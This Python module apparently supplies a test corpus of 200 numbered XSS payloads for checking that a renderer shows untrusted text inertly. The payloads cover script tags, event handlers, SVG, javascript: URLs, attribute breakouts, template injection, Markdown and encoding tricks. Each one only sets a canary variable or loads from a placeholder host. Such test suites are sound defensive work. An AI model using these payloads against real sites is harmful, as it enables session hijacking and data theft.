"""Two hundred texts that try to run a script or to reach the network from wherever they are shown unescaped.

In a template, ``JS`` stands for the script that betrays itself and ``URL`` for an address outside; both carry the
payload's number. A page that shows one of these as text changes nothing and asks nobody.
"""

from __future__ import annotations

from dataclasses import dataclass

OUTSIDE = "outside.example"


@dataclass(frozen=True, kw_only=True, slots=True)
class Payload:
    """One hostile text: its number, the trick it tries, and what to feed."""

    number: int
    family: str
    text: str

    @property
    def in_xml(self) -> str:
        """The text as an XML file can carry it inside CDATA: no control characters, the end mark split."""
        kept = "".join(letter for letter in self.text if letter >= " " or letter in "\t\n\r")
        return kept.replace("\ufffe", "").replace("]]>", "]]]]><![CDATA[>")


SCRIPTS = [
    "<script>JS</script>",
    "<SCRIPT>JS</SCRIPT>",
    "<ScRiPt\n>JS</sCrIpT\t>",
    "<script/x>JS</script/y>",
    "<script type=module>JS</script>",
    "<script type='text/javascript'>JS//",
    "<script src=data:text/javascript,JS></script>",
    "<script src=URL.js></script>",
    "<script src=//outside.example/p.js></script>",
    "<script async defer src='URL.js'></script>",
    "<scr<script>ipt>JS</scr</script>ipt>",
    "<<script>JS//<</script>",
    "</title><script>JS</script>",
    "</textarea><script>JS</script>",
    "</style><script>JS</script>",
    "</noscript><script>JS</script>",
    "</xmp></iframe></noembed><script>JS</script>",
    "--><script>JS</script><!--",
    "]]><script>JS</script><![CDATA[",
    "<?xml version='1.0'?><script xmlns='http://www.w3.org/1999/xhtml'>JS</script>",
    "<script>eval(String.fromCharCode(119,105,110,100,111,119)+'.__pwned=1')</script>",
    "<script>setTimeout('JS',0)</script>",
    "<script>alert(1);JS</script>",
    "<noscript><p title='</noscript><img src=x onerror=JS>'>",
]
HANDLERS = [
    "<img src=x onerror=JS>",
    "<IMG SRC=x ONERROR=JS>",
    "<img/src=x/onerror=JS>",
    "<img src='x' onerror='JS'/>",
    '<img src="x" onerror="JS">',
    "<img src=`x` onerror=`JS`>",
    "<img src onerror=JS>",
    "<img\nsrc=x\nonerror\n=\nJS>",
    "<img srcset=x onerror=JS>",
    "<image src=x onerror=JS>",
    "<img src=data:image/gif;base64,R0lGODlhAQABAAAAACw= onload=JS>",
    "<body onload=JS>",
    "<body onpageshow=JS>",
    "<frameset onload=JS>",
    "<video><source onerror=JS></video>",
    "<video src=x onerror=JS></video>",
    "<audio src=x onerror=JS></audio>",
    "<audio src=x onloadstart=JS></audio>",
    "<input autofocus onfocus=JS>",
    "<textarea autofocus onfocus=JS></textarea>",
    "<select autofocus onfocus=JS><option>a</select>",
    "<button autofocus onfocus=JS>b</button>",
    "<div tabindex=0 autofocus onfocus=JS>c</div>",
    "<details open ontoggle=JS><summary>d</summary>e</details>",
    "<iframe onload=JS></iframe>",
    "<object data=x onerror=JS></object>",
    "<embed src=x onload=JS>",
    "<link rel=stylesheet href=x onerror=JS>",
    "<style onload=JS>a{}</style>",
    "<script src=x onerror=JS></script>",
    "<input type=image src=x onerror=JS>",
    "<marquee onstart=JS>f</marquee>",
    "<style>@keyframes k{}</style><b style='animation:k 1s' onanimationstart=JS>g</b>",
    "<b onmouseover=JS>h</b>",
    "<b onpointerenter=JS style='position:fixed;inset:0'>i</b>",
    "<a href=# onclick=JS>j</a>",
    "<dialog open onclose=JS><form method=dialog><button autofocus>k</button></form></dialog>",
    "<form><input name=attributes><input onfocus=JS autofocus></form>",
]
FOREIGN = [
    "<svg onload=JS>",
    "<svg/onload=JS//",
    "<svg><script>JS</script></svg>",
    "<svg><script href=data:,JS /></svg>",
    "<svg><animate onbegin=JS attributeName=x dur=1s>",
    "<svg><set onbegin=JS attributeName=x to=1>",
    "<svg><a xlink:href='javascript:JS'><text y=20>l</text></a></svg>",
    "<svg><a><animate attributeName=href values='javascript:JS'/><text y=20>m</text></a></svg>",
    "<svg><image href=x onerror=JS></svg>",
    "<svg><image href=URL.png></svg>",
    "<svg><use href='URL.svg#a'/></svg>",
    "<svg><foreignObject><img src=x onerror=JS></foreignObject></svg>",
    "<svg><style><img src=x onerror=JS></style></svg>",
    "<svg><title><img src=x onerror=JS></title></svg>",
    "<svg><desc></desc></svg><svg onload=JS>",
    "<math><mtext><table><mglyph><style><img src=x onerror=JS>",
    "<math href='javascript:JS'>n</math>",
    "<math><mi//xlink:href='data:x,<script>JS</script>'>",
    "</svg><img src=x onerror=JS>",
    "</text></g></svg><script>JS</script>",
]
ADDRESSES = [
    "javascript:JS",
    "JaVaScRiPt:JS",
    "java\tscript:JS",
    "java\nscript:JS",
    " \x01javascript:JS",
    "javascript&colon;JS",
    "&#106;avascript:JS",
    "javascript://outside.example/%0aJS",
    "data:text/html,<script>JS</script>",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='JS'/>",
    "vbscript:JS",
    "<a href='javascript:JS'>o</a>",
    "<a href=URL ping=URL>p</a>",
    "<iframe src='javascript:JS'></iframe>",
    "<iframe srcdoc='<script>top.JS</script>'></iframe>",
    "<iframe src=URL></iframe>",
    "<img src=URL.png>",
    "<img srcset='URL.png 1x'>",
    "<picture><source srcset=URL.webp><img></picture>",
    "<video poster=URL.png src=URL.mp4></video>",
    "<link rel=stylesheet href=URL.css>",
    "<link rel=preload as=image href=URL.png>",
    "<meta http-equiv=refresh content='0;url=URL'>",
    "<base href=URL/><img src=q>",
    "<form action='javascript:JS'><button>r</button></form>",
    "<object data=URL></object>",
]
BREAKOUTS = [
    '" onmouseover=JS x="',
    "' onmouseover=JS x='",
    '"><img src=x onerror=JS>',
    "'><img src=x onerror=JS>",
    '" autofocus onfocus=JS tabindex=0 x="',
    "' autofocus onfocus=JS tabindex=0 x='",
    "` onmouseover=JS x=`",
    "x onmouseover=JS",
    'x" src=x onerror="JS',
    '" style="animation:k 1s" onanimationstart="JS',
    '\\"><img src=x onerror=JS>',
    "&quot;><img src=x onerror=JS>",
    "&#39; onmouseover=JS x=&#39;",
    "/><svg onload=JS>",
    '">\n</td></tr></table><script>JS</script>',
    "--!><img src=x onerror=JS>",
    "</summary></details><img src=x onerror=JS>",
    "</option></select><img src=x onerror=JS>",
]
JSON = [
    "</script><script>JS</script>",
    "</ScRiPt ><script>JS</script>",
    "</script\n><img src=x onerror=JS>",
    "<!--<script>",
    "<!--<script></script>--><script>JS</script>",
    '";JS;//',
    "';JS;//",
    "\\';JS;//",
    '\\";JS;//',
    "'-(JS)-'",
    '"+(JS)+"',
    "\u2028JS\u2028//",
    "\u2029JS//",
    '"}];JS;[{"a":"',
    "*/JS/*",
    '{"__proto__":{"html":"<img src=x onerror=JS>"}}',
    '{"application/vnd.jupyter.widget-view+json":{"model_id":"x"}}',
    '{"text/html":"<script>JS</script>"}',
]
TEMPLATES = [
    "{{constructor.constructor('JS')()}}",
    "{{$on.constructor('JS')()}}",
    "${JS}",
    "`+(JS)+`",
    "<%= JS %>",
    "#{JS}",
    "{%raw%}<script>JS</script>{%endraw%}",
    "{{ ''.__class__.__mro__ }}<script>JS</script>",
    "{0.__class__.__init__.__globals__}",
    "%(title)s %s %n <b onclick=JS>s</b>",
    "$title $$ ${title}<svg onload=JS>",
    "<div ng-app ng-init='constructor.constructor(\"JS\")()'>",
    "<div v-html=\"'<img src=x onerror=JS>'\">",
    "<template shadowrootmode=open><img src=x onerror=JS></template>",
    "<slot onslotchange=JS>t</slot>",
    "<x-y is=script>JS</x-y>",
]
MARKDOWN = [
    "[u](javascript:JS)",
    "[v](JAVASCRIPT&colon;JS)",
    "![w](URL.png)",
    "![x](x' onerror='JS)",
    '[y](URL ""><img src=x onerror=JS>")',
    "<javascript:JS>",
    "[z]: javascript:JS\n[z]",
    "```\n<img src=x onerror=JS>\n```\n<img src=x onerror=JS>",
    "` <img src=x onerror=JS>",
    "| a | <img src=x onerror=JS> |\n|---|---|",
    "# <svg onload=JS>",
    "> - 1. <img src=x onerror=JS>",
    "$\\href{javascript:JS}{x}$",
    "$$\\htmlData{x=<img src=x onerror=JS>}{y}$$",
    "\\(\\unicode{<img src=x onerror=JS>}\\)",
    "---\ntitle: <script>JS</script>\n---\n",
]
ENCODINGS = [
    "+ADw-script+AD4-JS+ADw-/script+AD4-",
    "%3Cscript%3EJS%3C/script%3E",
    "&lt;script&gt;JS&lt;/script&gt;",
    "&lt;img src=x onerror=JS&gt;",
    "&amp;lt;img src=x onerror=JS&amp;gt;",
    "&#60;img src=x onerror=JS&#62;",
    "&#x3c;img src=x onerror=JS&#x3e;",
    "\\x3cimg src=x onerror=JS\\x3e",
    "\\u003cimg src=x onerror=JS\\u003e",
    "\uff1cimg src=x onerror=JS\uff1e",
    "<\u200bimg src=x onerror=JS>",
    "<img src=x one\u200drror=JS onerror=JS>",
    "\u202e<img src=x onerror=JS>\u202c",
    "\ufeff<img src=x onerror=JS>",
    "<\u017fcript>JS</\u017fcript>",
    "<img src=x onerror\x0c=\x0cJS>",
    "<img src=x onerror=JS\x0b>",
    "\x1b(J<img src=x onerror=JS>\x1b(B",
]
STYLES = [
    "<style>@import 'URL.css';</style>",
    "<style>*{background:url(URL.png)}</style>",
    "<p style='background:url(URL.png)'>1</p>",
    "<p style='background-image:image-set(\"URL.png\" 1x)'>2</p>",
    "</style><img src=x onerror=JS>",
    "red;background:url(URL.png)",
    "}*{background:url(URL.png)}",
    "<style>@font-face{font-family:f;src:url(URL.woff)}*{font-family:f}</style>",
]
CHARTS = [
    "URL.png",
    "image",
    '{"signal":"JS"}',
    '{"expr":"JS"}',
    "datum['x']);JS;(",
    "a.b[0]['c']\\.d<img src=x onerror=JS>",
    '<img src="URL.png">',
    "href=javascript:JS",
]
FAMILIES = {
    "script": SCRIPTS,
    "handler": HANDLERS,
    "foreign": FOREIGN,
    "address": ADDRESSES,
    "breakout": BREAKOUTS,
    "json": JSON,
    "template": TEMPLATES,
    "markdown": MARKDOWN,
    "encoding": ENCODINGS,
    "style": STYLES,
    "chart": CHARTS,
}


def _numbered() -> tuple[Payload, ...]:
    templates = [(family, template) for family, texts in FAMILIES.items() for template in texts]
    return tuple(
        Payload(
            number=number,
            family=family,
            text=template.replace("JS", f"window.__pwned={number}").replace("URL", f"https://{OUTSIDE}/{number}"),
        )
        for number, (family, template) in enumerate(templates, start=1)
    )


PAYLOADS = _numbered()
